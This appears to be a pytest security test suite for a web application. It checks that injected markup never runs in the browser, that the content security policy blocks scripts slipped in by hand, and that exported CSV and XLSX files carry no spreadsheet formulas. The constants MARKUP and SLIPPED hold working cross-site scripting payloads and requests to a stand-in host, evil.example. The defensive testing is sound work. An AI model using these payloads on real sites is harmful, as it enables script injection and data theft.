"""Markup that a stranger wrote runs on no page of a real browser, and no formula in a file that is taken along."""

import csv
import io
import re
from collections.abc import Iterator
from zipfile import ZipFile

import pytest
from playwright.sync_api import Browser, Request

from app.kit.csv_files import FORMULA
from app.settings import Settings
from tests.bar import Bar
from tests.browser.conftest import browser
from tests.browser.furnished import Furnished, furnishing
from tests.browser.pages import PAGES, Seen, shown
from tests.databases import SqliteDatabases
from tests.security import permissions
from tests.security.asking import address, ask
from tests.security.world import World, world
from tests.security.written import FREE, OWN, columns, rewrite

__all__ = ["browser"]

MARKUP = (
    "\"'><script>window.ran=1</script><img src=x data-ran onerror='window.ran=2'>"
    "<svg data-ran onload='window.ran=3'></svg><a data-ran href='javascript:window.ran=4'>x</a>"
    "</textarea></title></style></script><style data-ran>*{background:url(https://evil.example/a)}</style>"
    "<iframe data-ran srcdoc='<script>parent.ran=5</script>'></iframe><link data-ran rel=stylesheet href=//evil.example>"
    "<form data-ran action=https://evil.example><meta data-ran http-equiv=refresh content='0;url=https://evil.example'>"
    "' autofocus onfocus='window.ran=6' x=\" onmouseover=\"window.ran=7\" y={{7*7}}z${7*7}<!--\u202e\u2028＜script＞%3Cscript%3E"
    "<math><mtext><table><mglyph><style><!--</style><img data-ran title='--&gt;&lt;img src=1 onerror=window.ran=8&gt;'>"
)
OWN_FORMULA = re.compile(r"SUM\([A-Z]+\d+(?:[:,][A-Z]+\d+)*\)")
# What would show that something of it was taken for markup.
TAKEN = """() => [
  window.ran && "ran " + window.ran,
  document.querySelector("[data-ran], script:not([src]):not([type='application/json']), [style*=evil]")?.outerHTML,
  [...document.querySelectorAll("[href], [src], [action], [formaction], [xlink\\\\:href]")].map((one) =>
    one.getAttribute("href") ?? one.getAttribute("src") ?? one.getAttribute("action") ?? "")
    .find((to) => /^\\s*(javascript|data|vbscript):/i.test(to)),
  [...document.querySelectorAll("*")].find((one) => [...one.attributes].some((own) => own.name.startsWith("on")))?.outerHTML,
  document.documentElement.textContent.includes("y49z") && "a template was filled in twice",
].filter(Boolean).map((found) => String(found).slice(0, 300))"""


def test_every_text_of_every_table_is_free_or_our_own() -> None:
    found = {name for names in columns().values() for name in names}
    assert found - FREE - OWN == set(), "say in tests/security/written.py whether people write this"
    assert set() == FREE & OWN


@pytest.fixture(scope="module")
def bent(sqlite: SqliteDatabases, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Furnished]:
    """The furnished site, on which every text that somebody writes has markup in it."""
    with furnishing(sqlite, tmp_path_factory.mktemp("markup")) as opened:
        with opened.site.engine.begin() as connection:
            assert rewrite(connection, lambda value: f"{value}{MARKUP}") > 500
        yield opened


@pytest.mark.bar(row=21, full=len(PAGES), quick=6)
def test_markup_runs_on_no_page(browser: Browser, bent: Furnished, bar: Bar) -> None:
    wrong: list[str] = []
    seen = PAGES[:: max(1, len(PAGES) // bar.times)]
    for one in seen:
        wrong += [f"{one}: {found}" for found in looked_at(browser, bent, one)]
    assert wrong == []
    bar.found(f"{len(seen)} pages, every free text with {MARKUP.count('<')} tags of markup in it: 0 executed, 0 taken")


def looked_at(browser: Browser, site: Furnished, seen: Seen) -> list[str]:
    """What a page does with the markup in its texts: its dialogs, faults, requests to others, elements."""
    found: list[str] = []
    with shown(browser, site, seen, faults=found) as page:
        page.on("dialog", lambda dialog: found.append(f"dialog {dialog.message}"))
        page.on("request", lambda request: found.extend(elsewhere(request, site.site.url)))
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        page.mouse.move(400, 400)
        page.wait_for_load_state("networkidle")
        found += page.evaluate(TAKEN)
        found += [f"went to {page.url}"] if not page.url.startswith(site.site.url) else []
    return [one for one in found if f"status of {seen.status}" not in one]


def elsewhere(request: Request, here: str) -> list[str]:
    return [] if request.url.startswith(here) else [f"asked {request.url}"]


@pytest.mark.bar(row=21, full=1, quick=1)
def test_the_policy_of_every_page_would_stop_what_slipped_through(browser: Browser, bent: Furnished, bar: Bar) -> None:
    with shown(browser, bent, Seen("alice", "/calls/{call}")) as page:
        stopped = page.evaluate(SLIPPED)
        page.wait_for_function("window.reports.length >= 5")
        assert page.evaluate("window.ran ?? null") is None
        violated = set(page.evaluate("window.reports"))
    assert stopped == "TypeError"
    assert {"style-src-attr", "require-trusted-types-for", "img-src", "connect-src", "frame-src"} <= violated
    bar.found(f"markup put in by hand is stopped by {', '.join(sorted(violated))}")


# What an attacker would do who had found a way past the escaping.
SLIPPED = """() => {
  window.reports = [];
  document.addEventListener("securitypolicyviolation", (event) => window.reports.push(event.effectiveDirective));
  const script = document.createElement("script");
  try { script.src = "https://evil.example/a.js"; } catch (error) {}
  const image = new Image(); image.src = "https://evil.example/a.png";
  const frame = document.createElement("iframe"); frame.src = "https://evil.example/";
  const styled = document.createElement("p"); styled.setAttribute("style", "color: red");
  const pressed = document.createElement("p");
  try { pressed.setAttribute("onclick", "window.ran = 1"); } catch (error) {}
  try { document.body.append(image, frame, styled, pressed); pressed.click(); } catch (error) {}
  fetch("https://evil.example/").catch(() => 0);
  const inline = document.createElement("script");
  try { inline.append("window.ran = 2"); document.body.append(inline); } catch (error) {}
  try { document.body.append(script); } catch (error) {}
  try { document.body.innerHTML = "<img src=x onerror='window.ran = 3'>"; return "set"; } catch (error) { return error.name; }
}"""


@pytest.fixture(scope="module")
def tables(sqlite: SqliteDatabases, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("formulas")
    with sqlite.fresh(folder) as url:
        settings = Settings(data_dir=folder, database_url=url, blind_share=0, double_share=0, api_per_minute=0)
        with world(settings) as opened:
            yield opened


@pytest.mark.bar(row=21, full=len(FORMULA), quick=1)
def test_no_file_that_is_taken_along_has_a_formula_in_it(tables: World, bar: Bar) -> None:
    half, files, cells = tables.halves[0], 0, 0
    for begins in FORMULA[: bar.times]:
        with tables.web.engine.begin() as connection:
            rewrite(connection, lambda value, begins=begins: f"{begins}{value.lstrip(''.join(FORMULA))}")  # type: ignore[misc]
        for line in permissions.lines().values():
            if line.method != "GET" or line.sign("ada") != "+":
                continue
            wants = {"accept": "text/csv"} if line.path.startswith("/api/") else {}
            answer = ask(tables, "ada", "GET", address(line.path, half, line.meant), headers=wants)
            kind = answer.headers.get("content-type", "")
            if "csv" not in kind and "spreadsheetml" not in kind:
                continue
            found = cells_of(answer.content) if "csv" in kind else xlsx_cells(answer.content)
            assert not [one for one in found if runs(one)], f"{line.path}: {[one for one in found if runs(one)][:3]}"
            files, cells = files + 1, cells + len(found)
    assert files >= 20 * bar.times
    bar.found(f"{files} files, {cells:,} cells, texts that begin with each of {bar.times} signs: 0 formulas")


def cells_of(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[str]:
    """The formulas of a workbook; its texts are texts, whatever they begin with."""
    with ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    formulas = [found for sheet in sheets for found in re.findall("<f[^>]*>([^<]*)</f>", sheet)]
    # The form of a scorecard adds its own points up.
    return [f"={found}" for found in formulas if not OWN_FORMULA.fullmatch(found)] or [""]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run this; a negative number is a number."""
    return cell.startswith(FORMULA) and not cell.replace("-", "", 1).replace(".", "", 1).isdigit()
